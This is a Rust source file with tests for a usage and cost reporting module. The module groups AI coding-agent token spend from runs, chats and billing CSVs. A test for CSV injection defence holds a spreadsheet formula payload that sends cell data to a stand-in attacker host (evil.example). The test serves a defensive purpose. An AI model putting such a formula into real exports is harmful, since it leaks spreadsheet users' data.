//! The usage report: tokens and cost of runs (exact: the CLI's result, Cursor Cloud's usage
//! API), chats (what Cursor's stores kept, sparse), the SDK's agents (exact: what Cursor 3's SDK
//! and Agents Window recorded per run, its cached input apart), other agents' requests (exact:
//! what Claude Code, Codex and Gemini CLI recorded per request, their cached input apart) and the
//! account (the imported CSV, as Cursor billed it), grouped by what the person asks (day, week, month, model, project, task, run,
//! agent, role), each source on rows of its own: the account's figures are the same spend as
//! the runs' and chats', seen from the bill, so adding them would count it twice.

use std::borrow::Cow;
use std::collections::{BTreeMap, HashMap};

use chrono::{Datelike, Local, NaiveDate, TimeZone};
use serde::{Deserialize, Serialize};

use super::caps::today_start_ms;
use super::prices::PriceTable;
use crate::Tether;
use crate::board::runs::event::Usage;
use crate::board::usage::{self as board_usage, RunSpend, SpendFilter};
use crate::error::{Error, Result};
use crate::history::usage as history_usage;

/// What to group by.
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize, schemars::JsonSchema, ts_rs::TS,
)]
#[ts(export, export_to = "core.ts")]
#[serde(rename_all = "snake_case")]
pub enum Dim {
    Day,
    Week,
    Month,
    Model,
    Project,
    Task,
    Run,
    Agent,
    Role,
    /// Every row has its source; accepted so `--by source` reads naturally.
    Source,
}

impl std::str::FromStr for Dim {
    type Err = Error;
    fn from_str(s: &str) -> Result<Self> {
        serde_json::from_value(serde_json::Value::String(s.trim().to_ascii_lowercase())).map_err(|_| {
            Error::invalid(
                "usage grouping",
                format!("{s:?}: use day, week, month, model, project, task, run, agent, role or source"),
            )
        })
    }
}

/// Which usage, grouped how.
#[derive(Debug, Clone, Default, Deserialize, schemars::JsonSchema, ts_rs::TS)]
#[ts(export, export_to = "core.ts")]
pub struct UsageQuery {
    /// From when: `30d` (the default: the last 30 days, today included), `12w`, `6m`, `1y`,
    /// `today`, or a date `2026-01-01`.
    #[serde(default)]
    #[ts(optional)]
    pub since: Option<String>,
    /// Up to this date (not included); default: now.
    #[serde(default)]
    #[ts(optional)]
    pub until: Option<String>,
    /// Group by these, in order (default: day).
    #[serde(default)]
    #[ts(optional, as = "Option<Vec<Dim>>")]
    pub by: Vec<Dim>,
    /// Only this source: `runs`, `chats`, `sdk`, `agents` or `account`.
    #[serde(default)]
    #[ts(optional)]
    pub source: Option<String>,
    /// At most this many rows, biggest first when grouping by task, run or agent (default all).
    #[serde(default)]
    #[ts(optional)]
    pub limit: Option<usize>,
}

/// One group's figures.
#[derive(Debug, Clone, Default, Serialize, PartialEq, ts_rs::TS)]
#[ts(export, export_to = "core.ts")]
pub struct UsageRow {
    /// `runs` (Tether's runs, exact), `chats` (what Cursor's chat stores recorded), `sdk` (the
    /// runs of Cursor's SDK / Agents Window agents, as their store recorded them: an item is a
    /// run; Cursor's spend, like the chats'), `agents`
    /// (other agents' requests, as Claude Code, Codex and Gemini CLI recorded them: an item is a
    /// request) or `account` (the imported usage CSV, as Cursor billed it).
    pub source: String,
    /// The group's value for each of the report's `by`, in order.
    pub keys: Vec<String>,
    /// Runs, chats or account events in the group, and how many of them have token figures.
    pub items: u64,
    pub with_tokens: u64,
    /// The group's tokens: `null` when nothing in it has figures (a chat Cursor recorded none
    /// for spent an unknown amount, not zero).
    pub input: Option<i64>,
    pub output: Option<i64>,
    pub cache_read: Option<i64>,
    pub cache_write: Option<i64>,
    pub tokens: Option<i64>,
    /// US dollars: Cursor's figures where it gave them, else estimated from the price table;
    /// absent when nothing in the group has either.
    #[ts(optional)]
    pub cost_usd: Option<f64>,
    /// Part of `cost_usd` is Tether's estimate, not Cursor's figure.
    pub cost_estimated: bool,
    /// Tokens of a model with no price: in `tokens`, not in `cost_usd`.
    pub unpriced_tokens: i64,
    /// Account events given to a run by time alone (no id joins them); events are given to
    /// runs only when the report groups by project, task, run, agent or role.
    pub matched_by_time: u64,
}

/// How much of each source has figures at all.
#[derive(Debug, Clone, Default, Serialize, PartialEq, ts_rs::TS)]
#[ts(export, export_to = "core.ts")]
pub struct UsageCoverage {
    pub runs: u64,
    pub runs_with_tokens: u64,
    pub chats: u64,
    pub chats_with_tokens: u64,
    /// Other agents' requests with recorded figures, and the chats they are in.
    pub agent_requests: u64,
    pub agent_chats: u64,
    /// The SDK / Agents Window agents' runs with recorded figures, and the agents (chats) they
    /// are in.
    pub sdk_runs: u64,
    pub sdk_agents: u64,
    pub account_events: u64,
    /// What the coverage means, in a sentence each.
    pub notes: Vec<String>,
}

#[derive(Debug, Clone, Serialize, PartialEq, ts_rs::TS)]
#[ts(export, export_to = "core.ts")]
pub struct UsageReport {
    /// The local days covered: from (included) and until (included).
    pub from: String,
    pub to: String,
    pub by: Vec<Dim>,
    pub rows: Vec<UsageRow>,
    /// One row per source over the whole period.
    pub totals: Vec<UsageRow>,
    pub coverage: UsageCoverage,
    /// The price table's date and source (estimates come from it).
    pub prices_as_of: String,
    pub prices_source: String,
}

/// One run, chat or account event on its way into a group.
struct Item<'a> {
    source: &'static str,
    day: &'a str,
    model: Option<&'a str>,
    project: Option<&'a str>,
    task: Option<i64>,
    run: Option<&'a RunSpend>,
    role: Option<&'a str>,
    /// Another agent's request: its agent (`claude-code`, `codex`, `gemini`).
    agent: Option<&'a str>,
    usage: Option<Usage>,
    cost: Option<f64>,
    by_time: bool,
}

/// The sources a report may be limited to.
const SOURCES: &[&str] = &["runs", "chats", "sdk", "agents", "account"];

/// A per-request row's source: the SDK's agents are Cursor's spend (on the account's bill, like
/// the chats'), other agents' are not, so they are rows of their own.
fn agent_source(a: &history_usage::AgentRequest) -> &'static str {
    if a.agent == crate::history::cursor::sdk::USAGE_AGENT { "sdk" } else { "agents" }
}

/// The report for `q`.
pub fn report(t: &Tether, q: &UsageQuery) -> Result<UsageReport> {
    let settings = t.settings()?.usage;
    let prices = PriceTable::new(&settings);
    let since = since_ms(q.since.as_deref().unwrap_or("30d"))?;
    let until = q.until.as_deref().map(date_ms).transpose()?;
    let want = |s: &str| q.source.as_deref().is_none_or(|w| w.trim() == s);
    if let Some(s) = q.source.as_deref()
        && !SOURCES.contains(&s.trim())
    {
        return Err(Error::invalid("usage source", format!("{s:?}: use runs, chats, sdk, agents or account")));
    }
    let mut by: Vec<Dim> = q.by.iter().copied().filter(|d| *d != Dim::Source).collect();
    if by.is_empty() && q.by.is_empty() {
        by.push(Dim::Day);
    }
    // Account events are given to runs only when the grouping asks who spent them.
    let asks_who = by.iter().any(|d| matches!(d, Dim::Project | Dim::Task | Dim::Run | Dim::Agent | Dim::Role));
    // The three reads go at once (each on a reader connection of its own): on a year of a heavy
    // user's data they are most of the report's time.
    let (runs, chats, agents, account) = std::thread::scope(|s| {
        let runs = s.spawn(|| {
            if want("runs") || (want("account") && asks_who) {
                t.board().usage().spend(&SpendFilter { since_ms: Some(since), until_ms: until, ..Default::default() })
            } else {
                Ok(Vec::new())
            }
        });
        let account = s.spawn(|| {
            if want("account") { history_usage::account_events(&t.store, Some(since), until) } else { Ok(Vec::new()) }
        });
        let chats = if want("chats") { history_usage::chats(&t.store, Some(since), until) } else { Ok(Vec::new()) };
        // The SDK's runs and other agents' requests are one read, split by who recorded them.
        let agents = if want("agents") || want("sdk") {
            history_usage::agent_requests(&t.store, Some(since), until)
                .map(|v| v.into_iter().filter(|a| want(agent_source(a))).collect::<Vec<_>>())
        } else {
            Ok(Vec::new())
        };
        Ok::<_, Error>((joined(runs)?, chats?, agents?, joined(account)?))
    })?;
    let match_account = asks_who && !account.is_empty();
    let days = DayIndex::new(since, until.unwrap_or_else(|| crate::clock::now_ms() + 86_400_000));
    let matcher = match_account.then(|| Matcher::new(&runs));

    let mut items: Vec<Item<'_>> = Vec::with_capacity(runs.len() + chats.len() + agents.len() + account.len());
    if want("runs") {
        for r in &runs {
            items.push(Item {
                source: "runs",
                day: days.day(r.at_ms),
                model: r.model.as_deref(),
                project: r.workspace.as_deref(),
                task: r.task,
                run: Some(r),
                role: r.role.as_deref(),
                agent: None,
                usage: r.usage.clone(),
                cost: r.cost_usd,
                by_time: false,
            });
        }
    }
    for c in &chats {
        let usage =
            c.input.map(|i| Usage { input_tokens: i, output_tokens: c.output.unwrap_or(0), ..Default::default() });
        items.push(Item {
            source: "chats",
            day: days.day(c.at_ms),
            model: c.model.as_deref(),
            project: c.project.as_deref(),
            task: None,
            run: None,
            role: None,
            agent: None,
            usage,
            cost: None,
            by_time: false,
        });
    }
    for a in &agents {
        items.push(Item {
            source: agent_source(a),
            day: days.day(a.at_ms),
            model: a.model.as_deref(),
            project: a.project.as_deref(),
            task: None,
            run: None,
            role: None,
            agent: Some(a.agent.as_str()),
            usage: Some(Usage {
                input_tokens: a.input,
                output_tokens: a.output,
                cache_read_tokens: a.cache_read,
                cache_write_tokens: a.cache_write,
            }),
            cost: None,
            by_time: false,
        });
    }
    for e in &account {
        let (run, by_time) = matcher.as_ref().map_or((None, false), |m| m.find(e));
        items.push(Item {
            source: "account",
            day: days.day(e.at_ms),
            model: Some(e.model.as_str()).filter(|m| !m.is_empty()),
            project: run.and_then(|r| r.workspace.as_deref()),
            task: run.and_then(|r| r.task),
            run,
            role: run.and_then(|r| r.role.as_deref()),
            agent: None,
            usage: Some(Usage {
                input_tokens: e.input_no_cache_write,
                output_tokens: e.output,
                cache_read_tokens: e.cache_read,
                cache_write_tokens: e.input_cache_write,
            }),
            // What Cursor charged; "Included" rows say no figure, and are not estimated either:
            // the bill is what this source is about.
            cost: e.cost_usd.or(Some(0.0)),
            by_time,
        });
    }

    // Each item's cost is worked out once (a model's price looked up once per report), then added
    // to its group and its source's total; group keys borrow what they can from the items.
    let mut priced: HashMap<&str, Option<&super::prices::Price>> = HashMap::new();
    let mut groups: HashMap<GroupKey<'_>, (UsageRow, Sums)> = HashMap::new();
    let mut totals: BTreeMap<&'static str, (UsageRow, Sums)> = BTreeMap::new();
    let cache_reads = settings.count_cache_reads;
    for it in &items {
        let cost = match (&it.usage, it.cost) {
            (_, Some(c)) => Cost::Given(c),
            (Some(u), None) => {
                let price = it.model.and_then(|m| *priced.entry(m).or_insert_with(|| prices.get(m)));
                price.map_or(Cost::Unpriced, |p| Cost::Estimated(p.cost(u)))
            }
            (None, None) => Cost::Unpriced,
        };
        let keys: Vec<Cow<'_, str>> = by.iter().map(|d| key(it, *d)).collect();
        let row = groups.entry((it.source, keys)).or_insert_with_key(|(source, keys)| {
            (
                UsageRow {
                    source: (*source).into(),
                    keys: keys.iter().map(|k| k.to_string()).collect(),
                    ..Default::default()
                },
                Sums::default(),
            )
        });
        add(row, it, cost, cache_reads);
        add(
            totals
                .entry(it.source)
                .or_insert_with(|| (UsageRow { source: it.source.into(), ..Default::default() }, Sums::default())),
            it,
            cost,
            cache_reads,
        );
    }
    let mut rows: Vec<UsageRow> = groups.into_values().map(Sums::finish).collect();
    rows.sort_by(|a, b| a.source.cmp(&b.source).then_with(|| a.keys.cmp(&b.keys)));
    if by.iter().any(|d| matches!(d, Dim::Task | Dim::Run | Dim::Agent)) {
        rows.sort_by(|a, b| {
            b.cost_usd.unwrap_or(0.0).total_cmp(&a.cost_usd.unwrap_or(0.0)).then(b.tokens.cmp(&a.tokens))
        });
    }
    if let Some(n) = q.limit {
        rows.truncate(n);
    }
    let coverage = coverage(if want("runs") { &runs } else { &[] }, &chats, &agents, account.len());
    let to = until.map_or_else(|| Local::now().date_naive(), |u| day_of(u - 1));
    Ok(UsageReport {
        from: day_of(since).to_string(),
        to: to.to_string(),
        by,
        rows,
        totals: totals.into_values().map(Sums::finish).collect(),
        coverage,
        prices_as_of: prices.as_of,
        prices_source: prices.source,
    })
}

/// A read's result (a panic in it goes on as the caller's).
fn joined<T>(h: std::thread::ScopedJoinHandle<'_, Result<T>>) -> Result<T> {
    h.join().unwrap_or_else(|p| std::panic::resume_unwind(p))
}

/// The person's local days between two moments, to tell a moment's day by a binary search
/// instead of asking the time zone once per row.
struct DayIndex {
    /// Each day's local midnight (epoch ms) and its name, in order.
    starts: Vec<(i64, String)>,
}

impl DayIndex {
    fn new(from_ms: i64, to_ms: i64) -> Self {
        let mut d = day_of(from_ms);
        let last = day_of(to_ms);
        let mut starts = Vec::new();
        while d <= last {
            let midnight = d.and_hms_opt(0, 0, 0).expect("midnight exists");
            let ms = Local.from_local_datetime(&midnight).earliest().map_or(0, |t| t.timestamp_millis());
            starts.push((ms, d.to_string()));
            d = d.succ_opt().unwrap_or(last);
            if starts.len() > 40_000 {
                break;
            }
        }
        Self { starts }
    }

    /// The day of `ms` (the first day for anything before it).
    fn day(&self, ms: i64) -> &str {
        let i = self.starts.partition_point(|(start, _)| *start <= ms);
        self.starts.get(i.saturating_sub(1)).map_or("", |(_, name)| name.as_str())
    }
}

/// What an item cost: Cursor's figure, Tether's estimate, or nothing to price it with.
#[derive(Clone, Copy)]
enum Cost {
    Given(f64),
    Estimated(f64),
    Unpriced,
}

/// A group: its source and its keys, one per `by`.
type GroupKey<'a> = (&'static str, Vec<Cow<'a, str>>);

/// A group's token sums while items are added, in 128 bits: figures come from outside (a run's
/// CLI, Cursor's stores, an imported file) and their sum must never wrap round to a negative.
#[derive(Default)]
struct Sums {
    input: i128,
    output: i128,
    cache_read: i128,
    cache_write: i128,
    tokens: i128,
    unpriced: i128,
}

impl Sums {
    /// The row with its sums, each absent when nothing in the group has figures; a sum past
    /// `i64` (only figures no real spend reaches) stays at its largest value.
    fn finish((mut row, s): (UsageRow, Sums)) -> UsageRow {
        let fit = |v: i128| i64::try_from(v).unwrap_or(if v < 0 { i64::MIN } else { i64::MAX });
        let known = row.with_tokens > 0;
        let some = |v: i128| known.then(|| fit(v));
        (row.input, row.output, row.cache_read, row.cache_write, row.tokens) =
            (some(s.input), some(s.output), some(s.cache_read), some(s.cache_write), some(s.tokens));
        row.unpriced_tokens = fit(s.unpriced);
        row
    }
}

fn add((row, sums): &mut (UsageRow, Sums), it: &Item<'_>, cost: Cost, cache_reads: bool) {
    row.items += 1;
    row.matched_by_time += u64::from(it.by_time);
    let Some(u) = &it.usage else { return };
    row.with_tokens += 1;
    let [input, output, cache_read, cache_write] =
        [u.input_tokens, u.output_tokens, u.cache_read_tokens, u.cache_write_tokens].map(i128::from);
    let total = input + output + cache_write + if cache_reads { cache_read } else { 0 };
    sums.input += input;
    sums.output += output;
    sums.cache_read += cache_read;
    sums.cache_write += cache_write;
    sums.tokens += total;
    match cost {
        Cost::Given(c) => row.cost_usd = Some(row.cost_usd.unwrap_or(0.0) + c),
        Cost::Estimated(c) => {
            row.cost_usd = Some(row.cost_usd.unwrap_or(0.0) + c);
            row.cost_estimated = true;
        }
        Cost::Unpriced => sums.unpriced += total,
    }
}

fn key<'a>(it: &Item<'a>, d: Dim) -> Cow<'a, str> {
    let or = |v: Option<&'a str>, none: &'static str| Cow::Borrowed(v.filter(|s| !s.is_empty()).unwrap_or(none));
    match d {
        Dim::Day => Cow::Borrowed(it.day),
        Dim::Week => NaiveDate::parse_from_str(it.day, "%Y-%m-%d")
            .map(|d| Cow::Owned(format!("{}-W{:02}", d.iso_week().year(), d.iso_week().week())))
            .unwrap_or(Cow::Borrowed(it.day)),
        Dim::Month => Cow::Borrowed(it.day.get(..7).unwrap_or(it.day)),
        Dim::Model => or(it.model, "(model not recorded)"),
        Dim::Project => or(it.project, "(no project)"),
        Dim::Task => it.task.map_or(Cow::Borrowed("(no task)"), |t| Cow::Owned(crate::board::tasks::format_id(t))),
        Dim::Run => it.run.map_or(Cow::Borrowed("(not a run)"), |r| Cow::Owned(crate::board::runs::format_id(r.num))),
        Dim::Agent => match (it.run, it.agent) {
            (Some(r), _) => Cow::Owned(format!("run R-{}", r.root)),
            (None, Some(agent)) => Cow::Borrowed(agent),
            (None, None) => Cow::Borrowed("(not a run)"),
        },
        Dim::Role => or(it.role, "(no role)"),
        Dim::Source => Cow::Borrowed(it.source),
    }
}

fn coverage(
    runs: &[board_usage::RunSpend],
    chats: &[history_usage::ChatSpend],
    agents: &[history_usage::AgentRequest],
    account: usize,
) -> UsageCoverage {
    let mut per_agent: BTreeMap<&str, (u64, std::collections::BTreeSet<&str>)> = BTreeMap::new();
    let mut sdk: (u64, std::collections::BTreeSet<&str>) = Default::default();
    for a in agents {
        let e = if agent_source(a) == "sdk" { &mut sdk } else { per_agent.entry(a.agent.as_str()).or_default() };
        e.0 += 1;
        e.1.insert(a.session_id.as_str());
    }
    let ended: Vec<_> = runs.iter().filter(|r| r.status.is_terminal()).collect();
    let mut c = UsageCoverage {
        runs: runs.len() as u64,
        runs_with_tokens: runs.iter().filter(|r| r.usage.is_some()).count() as u64,
        chats: chats.len() as u64,
        chats_with_tokens: chats.iter().filter(|c| c.input.is_some()).count() as u64,
        agent_requests: per_agent.values().map(|(n, _)| n).sum(),
        agent_chats: per_agent.values().map(|(_, chats)| chats.len() as u64).sum(),
        sdk_runs: sdk.0,
        sdk_agents: sdk.1.len() as u64,
        account_events: account as u64,
        notes: Vec::new(),
    };
    if !ended.is_empty() {
        let known = ended.iter().filter(|r| r.usage.is_some()).count();
        c.notes.push(format!(
            "tokens known for {}% of runs ({known} of {}): the rest ended before the CLI reported them",
            known * 100 / ended.len(),
            ended.len()
        ));
    }
    if let Some(pct) = (c.chats_with_tokens * 100).checked_div(c.chats) {
        c.notes.push(format!(
            "tokens known for {pct}% of chats ({} of {}): Cursor's chat stores mostly record none (since early 2026); a chat without figures is not recorded, not zero",
            c.chats_with_tokens,
            c.chats
        ));
    }
    if sdk.0 > 0 {
        c.notes.push(format!(
            "the SDK and Agents Window agents' tokens are exact, as Cursor recorded them per run ({} runs in {} agents); their cached input is priced at the cache rate",
            sdk.0,
            sdk.1.len()
        ));
    }
    if !per_agent.is_empty() {
        let each: Vec<String> =
            per_agent.iter().map(|(agent, (n, chats))| format!("{agent}: {n} in {} chats", chats.len())).collect();
        c.notes.push(format!(
            "other agents' tokens are exact, as each recorded them per request ({}); their cached input is priced at the cache rate. Claude Code, Codex and Gemini CLI all record figures",
            each.join(", ")
        ));
    }
    if account == 0 {
        c.notes.push(
            "no account usage imported for this period: export the usage CSV from Cursor's dashboard and run `tether usage import FILE.csv`"
                .into(),
        );
    } else {
        c.notes.push("the account's figures are the same spend as the runs', chats' and SDK agents', as Cursor billed it: compare them, do not add them".into());
    }
    c
}

/// Finds the run an account event belongs to: the cloud run of its Cloud Agent ID (exact), else
/// the one local run that was going when it happened (by time; none when two were). Runs are
/// sorted by start, so an event looks only at the runs that started within the longest run's
/// length before it.
struct Matcher<'a> {
    by_agent: HashMap<&'a str, &'a RunSpend>,
    /// Local runs that ended, by start, and the longest of them.
    ended: Vec<(i64, i64, &'a RunSpend)>,
    longest: i64,
    /// Local runs still going (few): they may hold any event since they started.
    going: Vec<&'a RunSpend>,
}

impl<'a> Matcher<'a> {
    fn new(runs: &'a [RunSpend]) -> Self {
        use crate::board::runs::RunStatus;
        let mut m = Self { by_agent: HashMap::new(), ended: Vec::new(), longest: 0, going: Vec::new() };
        for r in runs {
            match (&r.agent_id, r.status, r.ended_ms) {
                (Some(a), ..) => {
                    m.by_agent.insert(a.as_str(), r);
                }
                (None, RunStatus::Running, _) => m.going.push(r),
                (None, _, Some(end)) => m.ended.push((r.at_ms, end, r)),
                // Never started, or ended without a time: it ran at no known moment.
                (None, ..) => {}
            }
        }
        m.ended.sort_by_key(|(start, ..)| *start);
        m.longest = m.ended.iter().map(|(s, e, _)| e - s).max().unwrap_or(0);
        m
    }

    fn find(&self, e: &history_usage::AccountEvent) -> (Option<&'a RunSpend>, bool) {
        if let Some(agent) = &e.cloud_agent {
            return (self.by_agent.get(agent.as_str()).copied(), false);
        }
        let upto = self.ended.partition_point(|(start, ..)| *start <= e.at_ms);
        let earliest = e.at_ms.saturating_sub(self.longest);
        let ended = self.ended[..upto].iter().rev().take_while(|(start, ..)| *start >= earliest);
        let mut holding = ended.filter(|(_, end, _)| *end >= e.at_ms).map(|(.., r)| *r);
        let mut going = self.going.iter().filter(|r| r.at_ms <= e.at_ms).copied();
        let first = holding.next().or_else(|| going.next());
        match (first, holding.next().or_else(|| going.next())) {
            (Some(r), None) => (Some(r), true),
            _ => (None, false),
        }
    }
}

/// `30d`, `12w`, `6m`, `1y`, `today`, or a date: the start of that local day, epoch ms.
pub fn since_ms(s: &str) -> Result<i64> {
    let s = s.trim();
    if s == "today" {
        return Ok(today_start_ms());
    }
    // A count of days back, more than none and at most a century (more is a typo, and would
    // overflow the milliseconds below): anything else is not a period.
    let days = |n: &str, per: i64| {
        n.parse::<i64>().ok().filter(|n| *n > 0).and_then(|n| n.checked_mul(per)).filter(|d| *d <= 36_500)
    };
    let back = match s.char_indices().last() {
        Some((i, 'd')) => days(&s[..i], 1),
        Some((i, 'w')) => days(&s[..i], 7),
        Some((i, 'm')) => days(&s[..i], 30),
        Some((i, 'y')) => days(&s[..i], 365),
        _ => None,
    };
    match back {
        Some(d) => Ok(today_start_ms() - (d - 1) * 86_400_000),
        None => date_ms(s),
    }
}

fn date_ms(s: &str) -> Result<i64> {
    let d = NaiveDate::parse_from_str(s.trim(), "%Y-%m-%d").map_err(|_| {
        Error::invalid("usage period", format!("{s:?}: give 30d, 12w, 6m, 1y, today or a date like 2026-01-31"))
    })?;
    let midnight = d.and_hms_opt(0, 0, 0).expect("midnight exists");
    Ok(Local.from_local_datetime(&midnight).earliest().map_or(0, |t| t.timestamp_millis()))
}

fn day_of(ms: i64) -> NaiveDate {
    Local.timestamp_millis_opt(ms).earliest().map_or_else(|| Local::now().date_naive(), |t| t.date_naive())
}

/// One CSV cell, safe to open in a spreadsheet. Group keys carry text from outside (a model name
/// from the imported usage CSV, a project's folder), and a spreadsheet runs a cell that starts
/// with `=`, `+`, `-`, `@`, a tab or a carriage return as a formula (`=HYPERLINK(…)` sends the
/// reader's data away). As OWASP recommends for CSV injection, such a cell gets a leading `'`
/// (shown as text, not evaluated) and is quoted; a cell holding a comma, quote or line end is
/// quoted with its quotes doubled.
pub fn csv_cell(c: &str) -> Cow<'_, str> {
    let formula = c.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if formula {
        Cow::Owned(format!("\"'{}\"", c.replace('"', "\"\"")))
    } else if c.contains([',', '"', '\n', '\r']) {
        Cow::Owned(format!("\"{}\"", c.replace('"', "\"\"")))
    } else {
        Cow::Borrowed(c)
    }
}

/// The report as CSV, with the same columns as its JSON rows; every cell through [`csv_cell`].
pub fn to_csv(r: &UsageReport) -> String {
    let mut out = String::from("source");
    for d in &r.by {
        out.push(',');
        out.push_str(
            serde_json::to_value(d).ok().and_then(|v| v.as_str().map(str::to_owned)).unwrap_or_default().as_str(),
        );
    }
    out.push_str(",items,with_tokens,input,output,cache_read,cache_write,tokens,cost_usd,cost_estimated,unpriced_tokens,matched_by_time\n");
    for row in &r.rows {
        let mut cells = vec![row.source.clone()];
        cells.extend(row.keys.iter().cloned());
        cells.extend([row.items, row.with_tokens].map(|n| n.to_string()));
        // An absent figure is an empty cell, as an absent cost is: never a zero.
        cells.extend(
            [row.input, row.output, row.cache_read, row.cache_write, row.tokens]
                .map(|n| n.map(|n| n.to_string()).unwrap_or_default()),
        );
        cells.push(row.cost_usd.map(|c| format!("{c:.4}")).unwrap_or_default());
        cells.push(row.cost_estimated.to_string());
        cells.push(row.unpriced_tokens.to_string());
        cells.push(row.matched_by_time.to_string());
        let quoted: Vec<Cow<'_, str>> = cells.iter().map(|c| csv_cell(c)).collect();
        out.push_str(&quoted.join(","));
        out.push('\n');
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::board::runs::RunStatus;

    fn run(num: i64, start: i64, end: Option<i64>, agent: Option<&str>, status: RunStatus) -> RunSpend {
        RunSpend {
            num,
            status,
            model: None,
            task: None,
            role: None,
            workspace: None,
            root: num,
            at_ms: start,
            ended_ms: end,
            agent_id: agent.map(str::to_owned),
            usage: None,
            cost_usd: None,
        }
    }

    fn event(at_ms: i64, agent: Option<&str>) -> history_usage::AccountEvent {
        history_usage::AccountEvent {
            at_ms,
            model: String::new(),
            cloud_agent: agent.map(str::to_owned),
            input_cache_write: 0,
            input_no_cache_write: 0,
            cache_read: 0,
            output: 0,
            cost_usd: None,
        }
    }

    #[test]
    fn account_events_go_to_their_cloud_agent_or_the_one_run_going_then_and_else_to_none() {
        use RunStatus::*;
        let runs = [
            run(1, 100, Some(200), None, Succeeded),
            run(2, 150, Some(400), None, Failed),
            run(3, 500, Some(10_000), None, Succeeded),
            run(4, 50, Some(60), Some("bc-7"), Succeeded),
            run(5, 9_000, None, None, Running),
            run(6, 0, None, None, Queued),
        ];
        let m = Matcher::new(&runs);
        let num = |e: history_usage::AccountEvent| m.find(&e).0.map(|r| r.num);
        assert_eq!(m.find(&event(999_999, Some("bc-7"))).0.map(|r| r.num), Some(4), "by agent id, whenever");
        assert_eq!(m.find(&event(120, None)), (Some(&runs[0]), true), "only R-1 was going: matched by time");
        assert_eq!(num(event(170, None)), None, "R-1 and R-2 both were: no guess");
        assert_eq!(num(event(300, None)), Some(2));
        assert_eq!(num(event(450, None)), None, "nothing was going");
        assert_eq!(num(event(9_500, None)), None, "R-3 and the running R-5 both were");
        assert_eq!(num(event(20_000, None)), Some(5), "only the run still going");
    }

    #[test]
    fn csv_cells_that_a_spreadsheet_would_run_are_given_back_as_text() {
        let keys =
            ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1", "-2", "@SUM(A1)", "\tx", "\rx", "gpt-5", "a,b"];
        let r = UsageReport {
            from: "2026-03-01".into(),
            to: "2026-03-01".into(),
            by: vec![Dim::Model],
            rows: keys
                .iter()
                .map(|k| UsageRow { source: "account".into(), keys: vec![(*k).into()], ..Default::default() })
                .collect(),
            totals: vec![],
            coverage: UsageCoverage::default(),
            prices_as_of: String::new(),
            prices_source: String::new(),
        };
        let csv = to_csv(&r);
        let mut rdr = csv::ReaderBuilder::new().from_reader(csv.as_bytes());
        let models: Vec<String> = rdr.records().map(|r| r.unwrap()[1].to_owned()).collect();
        assert_eq!(
            models,
            [
                "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
                "'+1",
                "'-2",
                "'@SUM(A1)",
                "'\tx",
                "'\rx",
                "gpt-5",
                "a,b"
            ],
            "{csv}"
        );
        for line in csv.lines().skip(1).take(6) {
            assert!(line.starts_with("account,\"'"), "a neutralised cell is quoted: {line:?}");
        }
    }

    #[test]
    fn a_period_back_is_a_positive_count_of_at_most_a_century() {
        assert!(since_ms("30d").unwrap() < since_ms("today").unwrap() + 1);
        assert!(since_ms("100y").is_ok());
        for bad in ["-5d", "0d", "-1y", "101y", "99999999999999999d", "9223372036854775807y", "5", "d", "-5"] {
            let err = since_ms(bad).expect_err(bad).to_string();
            assert!(err.contains("give 30d, 12w, 6m, 1y, today or a date"), "{bad}: {err}");
        }
    }

    #[test]
    fn a_moment_falls_on_its_local_day() {
        let start = since_ms("2026-03-01").unwrap();
        let days = DayIndex::new(start, start + 3 * 86_400_000);
        assert_eq!(days.day(start), "2026-03-01");
        assert_eq!(days.day(start + 86_400_000 - 1), "2026-03-01");
        assert_eq!(days.day(start + 86_400_000 + 1), "2026-03-02");
    }
}
